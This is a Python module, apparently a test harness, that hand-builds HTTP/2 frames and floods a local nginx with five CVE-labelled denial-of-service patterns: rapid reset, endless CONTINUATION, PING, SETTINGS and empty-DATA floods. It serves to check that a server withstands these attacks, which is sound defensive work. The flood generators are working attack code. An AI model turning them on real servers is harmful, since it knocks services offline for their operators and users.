"""Clients of HTTP/2 that send without end what costs the server more than them, and read nothing."""

from __future__ import annotations

import socket
import ssl
from collections.abc import Iterator

from hpack import Encoder

from proofs.stack import DEADLINE

COUNT = 200_000
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def request(method: str, port: int, name: str) -> bytes:
    path = f"/work/io?ms=50&flood={name}"
    names = {":method": method, ":scheme": "https", ":authority": f"localhost:{port}", ":path": path}
    return Encoder().encode(list(names.items()))


def rapid_reset(port: int) -> Iterator[bytes]:
    """CVE-2023-44487: requests that are taken back at once, and so never count as open."""
    block = request("GET", port, "rapid_reset")
    for stream in range(1, 2 * COUNT, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
        yield frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))


def continuation(port: int) -> Iterator[bytes]:
    """CVE-2024-27316 and its kind: a header that has no end."""
    yield frame(HEADERS, END_STREAM, 1, request("GET", port, "continuation"))
    for number in range(COUNT):
        yield frame(CONTINUATION, 0, 1, Encoder().encode([(f"x-{number}", "a" * 20)]))


def ping(port: int) -> Iterator[bytes]:
    """CVE-2019-9512: each wants an answer, which nobody reads."""
    del port
    for number in range(COUNT):
        yield frame(PING, 0, 0, number.to_bytes(8, "big"))


def settings(port: int) -> Iterator[bytes]:
    """CVE-2019-9515: the same with SETTINGS."""
    del port
    for _ in range(COUNT):
        yield frame(SETTINGS, 0, 0)


def empty_data(port: int) -> Iterator[bytes]:
    """CVE-2019-9518: a body of parts without a byte, without end."""
    yield frame(HEADERS, END_HEADERS, 1, request("POST", port, "empty_data"))
    for _ in range(COUNT):
        yield frame(DATA, 0, 1)


FLOODS = {flood.__name__: flood for flood in (rapid_reset, continuation, ping, settings, empty_data)}


def run(name: str, port: int, trust: ssl.SSLContext) -> None:
    """Flood this host's port as fast as nginx takes it, until it closes or reads no more."""
    with socket.create_connection(("127.0.0.1", port), timeout=DEADLINE) as plain:
        connection = trust.wrap_socket(plain, server_hostname="localhost")
        assert connection.selected_alpn_protocol() == "h2"
        connection.settimeout(5)
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        frames = FLOODS[name](port)
        while batch := b"".join(part for part, _ in zip(frames, range(1000), strict=False)):
            try:
                connection.sendall(batch)
            except OSError:  # a reset, or a time-out where nothing is read
                break
